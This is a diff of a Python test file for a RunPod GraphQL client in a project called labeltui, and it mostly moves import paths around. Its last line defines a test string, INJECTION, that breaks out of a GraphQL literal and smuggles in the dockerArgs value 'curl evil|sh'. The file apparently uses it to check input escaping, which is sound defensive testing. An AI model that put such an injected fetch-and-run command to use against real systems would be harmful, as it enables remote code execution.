@@ -14,12 +14,12 @@ from graphql import build_schema, parse, validate
 from hypothesis import given
 from hypothesis import strategies as st
 
-from labeltui.domain.pod import Cloud, PodAction, PodSpec, PodStatus
+from labeltui.domain.pod.pod import (Cloud, PodAction, PodSpec, PodStatus)
 from labeltui.domain.problems import Failed, LabeltuiError
-from labeltui.runpod.graphql import Enum, GraphQL, literal
-from labeltui.runpod.graphql_pods import FIELDS, observed, pod
+from labeltui.runpod.graphql.graphql import Enum, GraphQL, literal
+from labeltui.runpod.graphql.pods import FIELDS, observed, pod
 from labeltui.runpod.problems import Doing
-from labeltui.sandbox.runpod import graph
+from labeltui.sandbox.runpod.api import graph
 
 NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
 INJECTION = 'x" } ], dockerArgs: "curl evil|sh", env: [ { key: "A", value: "y'
